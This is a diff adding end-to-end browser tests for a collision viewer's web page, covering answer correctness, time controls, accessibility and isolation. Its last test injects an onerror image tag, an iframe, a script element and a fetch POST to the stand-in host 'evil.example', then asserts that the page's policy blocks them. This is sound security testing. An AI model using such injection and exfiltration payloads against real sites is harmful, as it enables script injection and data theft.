@@ -1,0 +1,124 @@
+import { readFileSync } from 'node:fs';
+import { join } from 'node:path';
+import type { Browser } from 'playwright';
+import { afterAll, beforeAll, expect, test } from 'vitest';
+import { Scene } from '../../src/index.ts';
+import { readCell, readCellMotions } from '../../src/io/index.ts';
+import { files } from '../../src/node/index.ts';
+import { answered, factsOf, openedChromium, watchedPage } from './opened-viewer.ts';
+import { BUILD_PATIENCE, built, ROOT, type Started, started } from './started-command.ts';
+
+const FOLDER = join(ROOT, 'examples/puma-cell');
+
+let browser: Browser | undefined;
+let running: Started | undefined;
+beforeAll(async () => {
+  await built();
+  browser = await openedChromium();
+  running = await started(['view', `${FOLDER}/cell.json`, `${FOLDER}/across.csv`, '--port', '0', '--no-open']);
+}, BUILD_PATIENCE);
+afterAll(async () => {
+  await browser?.close();
+  await running?.interrupt();
+});
+
+/** What the library says in Node. */
+async function libraryTime(path: string): Promise<number> {
+  const folder = files(FOLDER);
+  const cell = await readCell(folder, 'cell.json');
+  const { motions } = await readCellMotions(folder, cell, path);
+  return new Scene(cell).firstContact(motions, { tolerance: cell.tolerance, clearance: cell.clearance }).time;
+}
+
+test('opened by the link of the command: the answer of the library, marked, in an isolated page that asks nobody else', async ({
+  skip,
+}) => {
+  if (browser === undefined || running === undefined) return skip('no Chromium here');
+  const [url] = running.urls;
+  const { page, faults, asked } = await watchedPage(browser);
+  const begun = performance.now();
+  await page.goto(url, { waitUntil: 'commit' });
+  await page.waitForFunction(() => ((window as { inbetweenViewer?: { frames: number } }).inbetweenViewer?.frames ?? 0) > 0);
+  console.log(`first picture after ${Math.round(performance.now() - begun)} ms`);
+  const facts = await answered(page);
+  expect(facts.answer?.result.status).toBe('contact');
+  expect(facts.answer?.result.time).toBe(await libraryTime('across.csv'));
+  expect(facts.markers).toBeGreaterThan(0);
+  expect(facts.time).toBe(facts.answer?.result.time);
+  expect(await page.evaluate(() => crossOriginIsolated)).toBe(true);
+  expect(await page.getByTestId('headline').innerText()).toContain('4.4345');
+  const { origin } = new URL(url);
+  expect(asked.filter((address) => !address.startsWith(`${origin}/`) && !/^(blob|data):/.test(address))).toEqual([]);
+  expect(asked).toContain(`${origin}/files/cell.json`);
+  expect(faults).toEqual([]);
+  await page.context().close();
+});
+
+test('scrubbing and stepping move time, jumping goes back to the contact', async ({ skip }) => {
+  if (browser === undefined || running === undefined) return skip('no Chromium here');
+  const { page, faults } = await watchedPage(browser);
+  await page.goto(running.urls[0]);
+  const { answer } = await answered(page);
+  await page.getByTestId('to-start').click();
+  expect((await factsOf(page)).time).toBe(0);
+  await page.getByTestId('time-slider').fill('500');
+  const { time } = await factsOf(page);
+  expect(time).toBeGreaterThan(1);
+  await page.getByTestId('step-on').click();
+  expect((await factsOf(page)).time).toBeGreaterThan(time);
+  await page.getByTestId('to-contact').click();
+  expect((await factsOf(page)).time).toBe(answer?.result.time);
+  expect(faults).toEqual([]);
+  await page.context().close();
+});
+
+test('axe finds nothing serious, light or dark', async ({ skip }) => {
+  if (browser === undefined || running === undefined) return skip('no Chromium here');
+  const axe = readFileSync(join(ROOT, 'node_modules/axe-core/axe.min.js'), 'utf8');
+  const { page } = await watchedPage(browser);
+  for (const colorScheme of ['light', 'dark'] as const) {
+    await page.emulateMedia({ colorScheme });
+    await page.goto(running.urls[0]);
+    await answered(page);
+    // as a debugger does: the page's policy lets no script in
+    await page.evaluate(axe);
+    const found = await page.evaluate(async () => {
+      const { axe } = window as unknown as {
+        axe: { run(): Promise<{ violations: { id: string; impact: string; nodes: { html: string }[] }[] }> };
+      };
+      const { violations } = await axe.run();
+      return violations.map(({ id, impact, nodes }) => ({ id, impact, where: nodes.map(({ html }) => html.slice(0, 120)) }));
+    });
+    const grave = found.filter(({ impact }) => impact === 'serious' || impact === 'critical');
+    expect(grave).toEqual([]);
+  }
+  await page.context().close();
+});
+
+test('what gets into the page all the same neither runs nor leaves', async ({ skip }) => {
+  if (browser === undefined || running === undefined) return skip('no Chromium here');
+  const { page } = await watchedPage(browser);
+  const reached: string[] = [];
+  await page.route('https://evil.example/**', (route) => {
+    reached.push(route.request().url());
+    return route.fulfill({ body: '' });
+  });
+  await page.goto(running.urls[0]);
+  await answered(page);
+  const ran = await page.evaluate(async () => {
+    const box = document.createElement('div');
+    box.innerHTML = '<img src="https://evil.example/a.png" onerror="window.ran = 1"><iframe src="https://evil.example/"></iframe>';
+    document.body.append(box);
+    const script = document.createElement('script');
+    script.textContent = 'window.ran = 2';
+    document.body.append(script);
+    const left = await fetch('https://evil.example/', { method: 'POST', body: 'x' }).then(
+      () => true,
+      () => false,
+    );
+    return [(window as { ran?: number }).ran ?? 0, left];
+  });
+  expect(ran).toEqual([0, false]);
+  expect(reached).toEqual([]);
+  await page.context().close();
+});
